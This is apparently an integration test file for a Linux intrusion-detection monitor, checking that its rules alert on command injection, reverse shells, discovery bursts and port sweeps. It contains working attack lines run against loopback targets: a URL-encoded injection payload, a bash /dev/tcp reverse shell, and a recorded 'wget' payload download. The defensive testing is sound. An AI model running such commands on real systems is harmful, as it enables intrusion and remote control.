//! Detection end to end: real attacks on this machine raise the built-in
//! pack's alerts; rules reload on SIGHUP; `rules check` and `replay` work
//! offline.

use std::{
    io::Write as _,
    process::{Command, Stdio},
    time::Duration,
};

use serde_json::Value;
use tests::{
    event_timeout, free_port, is_root, monitor_bin, scaled, unique, wait_for, wait_listening,
    EventExt as _, Killed, Monitor, TempPath, VULNERABLE_APP,
};

const QUIET: &str = "[output]\nseed_events = false\n[network]\nseed_events = false\n";

fn alert<'a>(alerts: &'a [Value], rule: &str) -> Option<&'a Value> {
    alerts.iter().find(|a| a["rule"] == rule)
}

#[test]
fn command_injection_through_a_web_app_alerts() {
    if !is_root("command_injection_through_a_web_app_alerts") {
        return;
    }
    let m = Monitor::start_with(QUIET);
    let port = free_port();
    let app = Killed(
        Command::new("/usr/bin/python3")
            .args(["-c", VULNERABLE_APP, &port.to_string()])
            .spawn()
            .expect("web app"),
    );
    wait_listening(&format!("127.0.0.1:{port}"));
    // The injected commands: discovery, then a connection out.
    let sink = std::net::TcpListener::bind("127.0.0.1:0").expect("sink");
    let sink_port = sink.local_addr().expect("addr").port();
    let payload = format!(
        "x;id;/usr/bin/python3 -c 'import socket;socket.create_connection((\"127.0.0.1\",{sink_port}))'"
    );
    let url = format!(
        "http://127.0.0.1:{port}/?host={}",
        payload
            .replace(' ', "%20")
            .replace(';', "%3B")
            .replace('"', "%22")
            .replace('\'', "%27")
    );
    let out = Command::new("curl")
        .args(["-s", &url])
        .output()
        .expect("curl");
    assert!(out.status.success());
    let app_pid = u64::from(app.0.id());
    // Other tests share the machine: only alerts below this app count.
    let below_app = |v: &Value| {
        v["process"]["ancestry"]
            .as_array()
            .is_some_and(|a| a.iter().any(|x| x["pid"] == app_pid))
    };
    let mine = |v: &Value, rule: &str| v.kind() == "alert" && v["rule"] == rule && below_app(v);
    let shell = m.expect_event("EW-PROC-001", |v| mine(v, "EW-PROC-001"));
    assert_eq!(shell["severity"], "high");
    assert!(shell["attack"]
        .as_array()
        .is_some_and(|a| a.iter().any(|t| t == "T1190")));
    assert_eq!(
        shell["process"]["exe"],
        std::fs::canonicalize("/bin/sh")
            .expect("sh")
            .to_str()
            .expect("utf8")
    );
    assert_eq!(shell["process"]["ancestry"][0]["pid"], app_pid);
    assert_eq!(shell["evidence"][0]["kind"], "exec");
    m.expect_event("EW-DISC-001", |v| mine(v, "EW-DISC-001"));
    let seq = m.expect_event("EW-SEQ-001", |v| mine(v, "EW-SEQ-001"));
    assert_eq!(seq["severity"], "critical");
    assert_eq!(seq["connections"][0]["remote"]["port"], sink_port);
    assert_eq!(seq["evidence"].as_array().map(Vec::len), Some(2));
    drop(sink);
    // The same app serving a normal request raises nothing more.
    let before = m.events(|v| v.kind() == "alert" && below_app(v)).len();
    let out = Command::new("curl")
        .args(["-s", &format!("http://127.0.0.1:{port}/?host=127.0.0.1")])
        .output()
        .expect("curl");
    assert!(out.status.success());
    std::thread::sleep(Duration::from_millis(500));
    let alerts = m.events(|v| v.kind() == "alert" && below_app(v));
    // A benign request still runs the app's own shell: only the lineage's
    // existing alerts may repeat, no new rule fires.
    let rules: std::collections::HashSet<String> = alerts[before..]
        .iter()
        .map(|a| a["rule"].as_str().unwrap_or("").to_owned())
        .collect();
    assert!(
        rules.iter().all(|r| r == "EW-PROC-001"),
        "new rules fired on a benign request: {rules:?}"
    );
    // A second, different injection while the alert is open is written at
    // once as an update of that alert, naming the new command.
    let out = Command::new("curl")
        .args([
            "-s",
            &format!("http://127.0.0.1:{port}/?host=x%3Buname%20-a%3Bid%20-u"),
        ])
        .output()
        .expect("curl");
    assert!(out.status.success());
    let update = m.expect_event("alert_update of the second injection", |v| {
        v.kind() == "alert_update"
            && v["rule"] == "EW-PROC-001"
            && below_app(v)
            && v["evidence"][0]["argv"]
                .to_string()
                .contains("uname -a;id -u")
    });
    assert_eq!(update["alert_id"], shell["alert_id"]);
    assert!(update["count"].as_u64().is_some_and(|c| c >= 2), "{update}");
}

#[test]
fn reverse_shell_alerts() {
    if !is_root("reverse_shell_alerts") {
        return;
    }
    let m = Monitor::start_with(QUIET);
    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("listener");
    let port = listener.local_addr().expect("addr").port();
    // The classic: a shell whose stdin and stdout are the connection.
    let shell = Killed(
        Command::new("/bin/bash")
            .args([
                "-c",
                &format!("exec 0<>/dev/tcp/127.0.0.1/{port} 1>&0; exec /bin/sh -i 2>&1"),
            ])
            .spawn()
            .expect("reverse shell"),
    );
    let (mut conn, _) = listener.accept().expect("accept");
    conn.write_all(b"exit\n").expect("send");
    let alert = m.expect_event("EW-PROC-002", |v| {
        v.kind() == "alert" && v["rule"] == "EW-PROC-002"
    });
    assert_eq!(alert["severity"], "critical");
    assert_eq!(alert["evidence"][0]["stdio"][0], "socket");
    assert_eq!(alert["process"]["pid"], u64::from(shell.0.id()));
}

#[test]
fn rules_reload_on_sighup_and_bad_rules_keep_the_old_ones() {
    if !is_root("rules_reload_on_sighup_and_bad_rules_keep_the_old_ones") {
        return;
    }
    let dir = std::env::temp_dir().join(format!(
        "edgewatch-rules-{}-{}",
        std::process::id(),
        unique()
    ));
    std::fs::create_dir_all(&dir).expect("rule dir");
    let marker = format!("edgewatch-marker-{}", unique());
    let m = Monitor::start_with(&format!(
        "{QUIET}[detect]\nbuiltin_rules = false\nrule_paths = [\"{}\"]\n",
        dir.display()
    ));
    let run_marker = || {
        let mut c = Command::new("/bin/echo")
            .arg(&marker)
            .stdout(Stdio::null())
            .spawn()
            .expect("echo");
        c.wait().expect("wait");
        u64::from(c.id())
    };
    let first = run_marker();
    std::thread::sleep(Duration::from_millis(300));
    assert!(m
        .events(|v| v.kind() == "alert" && v["process"]["pid"] == first)
        .is_empty());
    std::fs::write(
        dir.join("local.toml"),
        format!(
            "[[rule]]\nid = \"LOCAL-1\"\ntitle = \"marker\"\nseverity = \"low\"\nattack = [\"T1059\"]\nkinds = [\"exec\"]\ndedup_secs = 0\nmatch = [{{ field = \"argv\", equals = \"{marker}\" }}]\n"
        ),
    )
    .expect("write rule");
    // SAFETY: signalling the monitor child.
    unsafe { libc::kill(m.pid() as i32, libc::SIGHUP) };
    let deadline = std::time::Instant::now() + scaled(Duration::from_secs(10));
    while !m.stderr().iter().any(|l| l.contains("reloaded")) {
        assert!(
            std::time::Instant::now() < deadline,
            "no reload: {:?}",
            m.stderr()
        );
        std::thread::sleep(Duration::from_millis(50));
    }
    let second = run_marker();
    m.expect_event("alert from the new rule", |v| {
        v.kind() == "alert" && v["rule"] == "LOCAL-1" && v["process"]["pid"] == second
    });
    // A broken file: the reload fails in one line and the rule stays.
    std::fs::write(
        dir.join("broken.toml"),
        "[[rule]]\nid = \"B\"\nseverity = \"nope\"\n",
    )
    .expect("write");
    unsafe { libc::kill(m.pid() as i32, libc::SIGHUP) };
    let deadline = std::time::Instant::now() + scaled(Duration::from_secs(10));
    let line = loop {
        if let Some(l) = m.stderr().into_iter().find(|l| l.contains("reload failed")) {
            break l;
        }
        assert!(
            std::time::Instant::now() < deadline,
            "no failure line: {:?}",
            m.stderr()
        );
        std::thread::sleep(Duration::from_millis(50));
    };
    assert!(line.contains("broken.toml:"), "{line}");
    let third = run_marker();
    m.expect_event("old rule still running", |v| {
        v.kind() == "alert" && v["rule"] == "LOCAL-1" && v["process"]["pid"] == third
    });
    assert_eq!(
        m.metric("edgewatch_rule_reloads_total{result=\"failed\"}"),
        Some(1.0)
    );
    let _ = std::fs::remove_dir_all(dir);
}

#[test]
fn rules_check_reports_file_line_and_column() {
    let good = TempPath::write("good.toml", "[[rule]]\nid = \"G-1\"\ntitle = \"t\"\nseverity = \"low\"\nattack = [\"T1059\"]\nkinds = [\"exec\"]\n");
    let out = Command::new(monitor_bin())
        .args(["rules", "check"])
        .arg(good.path())
        .output()
        .expect("run");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(String::from_utf8_lossy(&out.stdout).contains("1 rules ok"));
    let bad = TempPath::write(
        "bad.toml",
        "[[rule]]\nid = \"B-1\"\ntitle = \"t\"\nseverity = \"low\"\nattack = [\"T1059\"]\nmatch = [{ field = \"exe\", regex = \"[\" }]\n",
    );
    let out = Command::new(monitor_bin())
        .args(["rules", "check"])
        .arg(bad.path())
        .output()
        .expect("run");
    assert_eq!(out.status.code(), Some(2));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(stderr.lines().count(), 1, "{stderr}");
    assert!(
        stderr.contains(&format!("{}:6:35: bad regex", bad.path().display())),
        "{stderr}"
    );
    let out = Command::new(monitor_bin())
        .args(["rules", "show"])
        .output()
        .expect("run");
    assert!(String::from_utf8_lossy(&out.stdout).contains("EW-PROC-001"));
}

/// A misspelt field is a load error at its place, naming the nearest known
/// field; `monitor schema` prints the schema the fields come from.
#[test]
fn a_misspelt_field_is_an_error_and_the_schema_is_printed() {
    let bad = TempPath::write(
        "typo.toml",
        "[[rule]]\nid = \"T-1\"\ntitle = \"t\"\nseverity = \"low\"\nattack = [\"T1059\"]\nkinds = [\"exec\"]\nmatch = [{ field = \"exe_nmae\", equals = \"sh\" }]\n",
    );
    let out = Command::new(monitor_bin())
        .args(["rules", "check"])
        .arg(bad.path())
        .output()
        .expect("run");
    assert_eq!(out.status.code(), Some(2));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains(&format!(
            "{}:7:20: unknown field \"exe_nmae\" in exec events; did you mean \"exe_name\"?",
            bad.path().display()
        )),
        "{stderr}"
    );
    let out = Command::new(monitor_bin())
        .arg("schema")
        .output()
        .expect("run");
    assert!(out.status.success());
    let schema: serde_json::Value = serde_json::from_slice(&out.stdout).expect("JSON");
    assert_eq!(schema["title"], "edgewatch output line");
    let defs = schema["$defs"].as_object().expect("$defs");
    for name in ["ExecRecord", "NetRecord", "RelayRecord", "AlertRecord"] {
        assert!(defs.contains_key(name), "no {name} in the schema");
    }
}

/// `config check` compiles the rule files the configuration names, so
/// what `run` would refuse (a user rule reusing a built-in id) fails the
/// check, with the way out in the message; the same rule as an override
/// passes, and `rules check` agrees.
#[test]
fn config_check_refuses_what_run_would_refuse() {
    let dup = TempPath::write(
        "dup.toml",
        "[[rule]]\nid = \"EW-PROC-003\"\ntitle = \"t\"\nseverity = \"low\"\nattack = [\"T1059\"]\nkinds = [\"exec\"]\n",
    );
    let check = |args: &[&std::ffi::OsStr]| {
        let out = Command::new(monitor_bin())
            .args(args)
            .output()
            .expect("run");
        (
            out.status.code(),
            String::from_utf8_lossy(&out.stdout).into_owned(),
            String::from_utf8_lossy(&out.stderr).into_owned(),
        )
    };
    let config = |rules: &std::path::Path, disabled: &str| {
        TempPath::write(
            "config.toml",
            &format!(
                "[detect]\nrule_paths = [{:?}]\ndisabled_rules = [{disabled}]\n",
                rules.display().to_string()
            ),
        )
    };
    let c = config(dup.path(), "");
    let (code, _, err) = check(&["config".as_ref(), "check".as_ref(), c.path().as_os_str()]);
    assert_eq!(code, Some(2), "{err}");
    assert!(
        err.contains(&format!(
            "{}:2:6: rule id EW-PROC-003 is already defined",
            dup.path().display()
        )),
        "{err}"
    );
    assert!(err.contains("overrides = \"EW-PROC-003\""), "{err}");
    let (code, _, err) = check(&["rules".as_ref(), "check".as_ref(), dup.path().as_os_str()]);
    assert_eq!(code, Some(2), "{err}");

    let fixed = TempPath::write(
        "fixed.toml",
        "[[rule]]\nid = \"EW-PROC-003\"\noverrides = \"EW-PROC-003\"\ntitle = \"t\"\nseverity = \"low\"\nattack = [\"T1059\"]\nkinds = [\"exec\"]\n",
    );
    let c = config(fixed.path(), "\"EW-PROC-007\"");
    let (code, out, err) = check(&["config".as_ref(), "check".as_ref(), c.path().as_os_str()]);
    assert_eq!(code, Some(0), "{err}");
    assert!(out.contains("ok,"), "{out}");
    let (code, out, err) = check(&["rules".as_ref(), "check".as_ref(), fixed.path().as_os_str()]);
    assert_eq!(code, Some(0), "{err}");
    assert!(out.contains("1 rules ok"), "{out}");

    // A disabled rule id that names no rule.
    let c = config(fixed.path(), "\"EW-PROC-07\"");
    let (code, _, err) = check(&["config".as_ref(), "check".as_ref(), c.path().as_os_str()]);
    assert_eq!(code, Some(2), "{err}");
    assert!(err.contains("detect.disabled_rules: no rule has the id \"EW-PROC-07\"; did you mean \"EW-PROC-007\"?"), "{err}");
}

#[test]
fn replay_runs_recorded_events_through_the_rules() {
    let listen = r#"{"kind":"listen","ts":"2026-01-01T00:00:00Z","proto":"tcp","netns":1,"socket":1,"local":{"addr":"0.0.0.0","port":80},"process":{"pid":100,"comm":"lighttpd","exe":"/usr/sbin/lighttpd","argv":["lighttpd"],"ancestry":[{"pid":1,"exe":"/sbin/init"}]}}"#;
    let shell = r#"{"kind":"exec","ts":"2026-01-01T00:00:05Z","pid":200,"tid":200,"ppid":100,"uid":33,"euid":33,"gid":33,"egid":33,"comm":"sh","cgroup_id":1,"exe":"/bin/busybox","exe_deleted":false,"exe_truncated":false,"argv":["sh","-c","wget http://198.51.100.9/x -O /tmp/x"],"argv_truncated":false,"cwd":"/www","cwd_truncated":false,"stdio":["pipe","pipe","pipe"],"ancestry":[{"pid":100,"exe":"/usr/sbin/lighttpd"},{"pid":1,"exe":"/sbin/init"}]}"#;
    // Hand-written, missing most fields of the schema: judged by the
    // fields it has.
    let partial =
        r#"{"kind":"exec","ts":"2026-01-01T00:00:06Z","pid":300,"exe":"/dev/shm/.x","argv":["x"]}"#;
    let file = TempPath::write(
        "events.jsonl",
        &format!("{listen}\nnot json\n{shell}\n{partial}\n"),
    );
    let out = Command::new(monitor_bin())
        .arg("replay")
        .arg(file.path())
        .output()
        .expect("run");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let alerts: Vec<Value> = String::from_utf8_lossy(&out.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).expect("alert JSON"))
        .collect();
    let a = alert(&alerts, "EW-PROC-001").expect("web shell alert");
    assert_eq!(a["kind"], "alert");
    assert_eq!(a["process"]["pid"], 200);
    let stderr = String::from_utf8_lossy(&out.stderr);
    let dropped = alert(&alerts, "EW-PROC-003").expect("run from /dev/shm");
    assert_eq!(dropped["process"]["pid"], 300);
    assert!(stderr.contains(":2: not a JSON event"), "{stderr}");
    assert!(stderr.contains("replayed 3 events"), "{stderr}");
    assert!(
        stderr.contains("1 events are not of this version's schema"),
        "{stderr}"
    );
}

#[test]
fn alerts_left_out_of_output_kinds_stay_out_at_shutdown() {
    if !is_root("alerts_left_out_of_output_kinds_stay_out_at_shutdown") {
        return;
    }
    let m = Monitor::start_with(
        "[output]\nseed_events = false\nkinds = [\"exec\"]\n[network]\nseed_events = false\n",
    );
    // Two matches of one rule on one lineage: an open dedup window that
    // shutdown closes with a repeat line.
    let dir = tests::scratch_dir("kinds");
    std::fs::copy("/bin/true", dir.join("t")).expect("copy");
    let dropped = std::env::temp_dir().join(format!("edgewatch-t-{}", unique()));
    std::fs::copy("/bin/true", &dropped).expect("copy to tmp");
    for _ in 0..2 {
        let mut c = Command::new(&dropped).spawn().expect("run from /tmp");
        c.wait().expect("wait");
    }
    m.expect_event("exec from tmp", |v| {
        v.kind() == "exec" && v["exe"] == dropped.to_str().expect("utf8")
    });
    let (status, events) = m.stop_with_events();
    assert!(status.success());
    let other: Vec<&Value> = events.iter().filter(|v| v.kind() != "exec").collect();
    assert!(
        other.is_empty(),
        "only exec lines were asked for: {other:?}"
    );
    let _ = std::fs::remove_file(dropped);
    let _ = std::fs::remove_dir_all(dir);
}

/// The vulnerable app of `command_injection_through_a_web_app_alerts`,
/// listening on a free loopback port.
fn vulnerable_app() -> (Killed, u16) {
    let port = free_port();
    let app = Killed(
        Command::new("/usr/bin/python3")
            .args(["-c", VULNERABLE_APP, &port.to_string()])
            .spawn()
            .expect("web app"),
    );
    wait_listening(&format!("127.0.0.1:{port}"));
    (app, port)
}

/// Has the app run `commands` (shell syntax) through its injection flaw.
fn inject(port: u16, commands: &str) {
    let encoded: String = format!("x;{commands}")
        .bytes()
        .map(|b| match b {
            b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9' | b'-' | b'.' | b'/' => (b as char).to_string(),
            other => format!("%{other:02X}"),
        })
        .collect();
    let out = Command::new("curl")
        .args(["-s", &format!("http://127.0.0.1:{port}/?host={encoded}")])
        .output()
        .expect("curl");
    assert!(out.status.success(), "curl failed");
}

/// Whether `v` is an alert of a discovery-burst rule.
fn is_burst(v: &Value) -> bool {
    v.kind() == "alert" && (v["rule"] == "EW-DISC-003" || v["rule"] == "EW-DISC-004")
}

/// Whether event or alert `v` concerns a process below `pid` (or `pid`
/// itself): exec events carry the process at the top, alerts under
/// `process`.
fn below(v: &Value, pid: u64) -> bool {
    let p = if v["process"].is_object() {
        &v["process"]
    } else {
        v
    };
    p["pid"] == pid
        || p["ancestry"]
            .as_array()
            .is_some_and(|a| a.iter().any(|x| x["pid"] == pid))
}

#[test]
fn discovery_burst_from_a_web_app_alerts_once() {
    if !is_root("discovery_burst_from_a_web_app_alerts_once") {
        return;
    }
    let m = Monitor::start_with(QUIET);
    let (app, port) = vulnerable_app();
    let app_pid = app.pid();
    inject(port, "uname -a;id;ip addr;ss -tan;ps aux");
    let burst = m.expect_event("EW-DISC-003", |v| {
        v.kind() == "alert" && v["rule"] == "EW-DISC-003" && below(v, app_pid)
    });
    assert_eq!(burst["severity"], "high");
    assert_eq!(burst["lineage"], app_pid, "the service's lineage");
    let argv0: Vec<String> = burst["evidence"]
        .as_array()
        .expect("evidence")
        .iter()
        .map(|e| e["argv"][0].as_str().unwrap_or_default().to_owned())
        .collect();
    assert_eq!(argv0, ["uname", "id", "ip"], "the first three commands");
    // The rest of the burst folds into it: one alert, and every command
    // was seen.
    m.expect_event("ps of the burst", |v| {
        v.kind() == "exec" && v["argv"][0] == "ps" && below(v, app_pid)
    });
    std::thread::sleep(Duration::from_millis(500));
    let bursts = m.events(|v| is_burst(v) && below(v, app_pid));
    assert_eq!(bursts.len(), 1, "{bursts:#?}");
}

#[test]
fn one_kind_of_discovery_stays_quiet() {
    if !is_root("one_kind_of_discovery_stays_quiet") {
        return;
    }
    let m = Monitor::start_with(QUIET);
    // uname and hostname alone, below a service: each command is
    // EW-DISC-001, the burst needs two kinds.
    let (app, port) = vulnerable_app();
    let app_pid = app.pid();
    inject(
        port,
        "uname -a;uname -r;hostname;uname -m;cat /proc/version",
    );
    m.expect_event("EW-DISC-001 of uname", |v| {
        v.kind() == "alert" && v["rule"] == "EW-DISC-001" && below(v, app_pid)
    });
    m.expect_event("the last command", |v| {
        v.kind() == "exec"
            && v["argv"] == serde_json::json!(["cat", "/proc/version"])
            && below(v, app_pid)
    });
    // (A login session is known by its lineage, a login service above it,
    // which a test cannot fake: the lab's ssh scenarios cover it. A service
    // that sets its own loginuid is still a service: see identity.rs.)
    std::thread::sleep(Duration::from_millis(500));
    let one_kind = m.events(|v| is_burst(v) && below(v, app_pid));
    assert!(one_kind.is_empty(), "{one_kind:#?}");
}

/// Connects from one python process to each `host:port` of `targets`
/// (a short timeout each); prints how many were refused.
const CONNECTOR: &str = r#"
import socket, sys
refused = 0
for t in sys.argv[1:]:
    host, port = t.rsplit(":", 1)
    s = socket.socket()
    s.settimeout(2)
    try:
        s.connect((host, int(port)))
    except ConnectionRefusedError:
        refused += 1
    except OSError:
        pass
    s.close()
print(refused)
"#;

/// Runs [`CONNECTOR`] over `targets`; returns its pid and refusals.
fn connect_to(targets: &[String]) -> (u64, usize) {
    let out = Command::new("/usr/bin/python3")
        .arg("-c")
        .arg(CONNECTOR)
        .args(targets)
        .stdout(Stdio::piped())
        .spawn()
        .expect("python");
    let pid = u64::from(out.id());
    let out = out.wait_with_output().expect("wait");
    assert!(out.status.success());
    let refused = String::from_utf8_lossy(&out.stdout)
        .trim()
        .parse()
        .expect("count");
    (pid, refused)
}

/// Ports on 127.0.0.1 nothing listens on: bound and released.
fn closed_ports(n: usize) -> Vec<u16> {
    let held: Vec<std::net::TcpListener> = (0..n)
        .map(|_| std::net::TcpListener::bind("127.0.0.1:0").expect("bind"))
        .collect();
    held.iter()
        .map(|l| l.local_addr().expect("addr").port())
        .collect()
}

fn scans_of(m: &Monitor, pid: u64) -> Vec<Value> {
    m.events(|v| {
        v.kind() == "alert"
            && v["rule"]
                .as_str()
                .is_some_and(|r| r.starts_with("EW-SCAN-"))
            && v["process"]["pid"] == pid
    })
}

#[test]
fn port_and_host_sweeps_alert_once_per_process() {
    if !is_root("port_and_host_sweeps_alert_once_per_process") {
        return;
    }
    let m = Monitor::start_with(QUIET);
    // A port sweep of one host: 100 ports.
    let targets: Vec<String> = closed_ports(100)
        .into_iter()
        .map(|p| format!("127.0.0.1:{p}"))
        .collect();
    let (sweeper, refused) = connect_to(&targets);
    assert!(refused >= 95, "only {refused} of 100 refused");
    let alert = m.expect_event("scan alert of the port sweep", |v| {
        v.kind() == "alert"
            && v["rule"]
                .as_str()
                .is_some_and(|r| r.starts_with("EW-SCAN-"))
            && v["process"]["pid"] == sweeper
    });
    assert_eq!(alert["lineage"], sweeper, "keyed by the process");
    assert_eq!(alert["attack"], serde_json::json!(["T1046"]));
    // A host sweep of one port: 60 loopback addresses.
    let port = closed_ports(1)[0];
    let targets: Vec<String> = (2..62).map(|h| format!("127.0.0.{h}:{port}")).collect();
    let (host_sweeper, refused) = connect_to(&targets);
    assert!(refused >= 55, "only {refused} of 60 refused");
    m.expect_event("scan alert of the host sweep", |v| {
        v.kind() == "alert"
            && v["rule"]
                .as_str()
                .is_some_and(|r| r.starts_with("EW-SCAN-"))
            && v["process"]["pid"] == host_sweeper
    });
    // Each sweep is one alert, whatever its length.
    m.expect_event("the last connect of the host sweep", |v| {
        v.kind() == "connect_result"
            && v["process"]["pid"] == host_sweeper
            && v["remote"]["addr"] == "127.0.0.61"
    });
    std::thread::sleep(Duration::from_millis(500));
    assert_eq!(
        scans_of(&m, sweeper).len(),
        1,
        "{:#?}",
        scans_of(&m, sweeper)
    );
    assert_eq!(scans_of(&m, host_sweeper).len(), 1);
}

#[test]
fn a_client_of_a_few_services_is_not_a_scan() {
    if !is_root("a_client_of_a_few_services_is_not_a_scan") {
        return;
    }
    let m = Monitor::start_with(QUIET);
    // Five loopback services, each reached four times, all answering.
    let services: Vec<std::net::TcpListener> = (0..5)
        .map(|_| std::net::TcpListener::bind("127.0.0.1:0").expect("bind"))
        .collect();
    let targets: Vec<String> = (0..4)
        .flat_map(|_| services.iter())
        .map(|l| format!("127.0.0.1:{}", l.local_addr().expect("addr").port()))
        .collect();
    let (client, refused) = connect_to(&targets);
    assert_eq!(refused, 0);
    // Every connect was seen, and none is a scan.
    wait_for("the client's 20 connects", event_timeout(), || {
        let n = m
            .events(|v| {
                v.kind() == "connect_result"
                    && v["process"]["pid"] == client
                    && v["result"] == "established"
            })
            .len();
        (n >= 20).then_some(())
    });
    std::thread::sleep(Duration::from_millis(500));
    assert!(
        scans_of(&m, client).is_empty(),
        "{:#?}",
        scans_of(&m, client)
    );
}
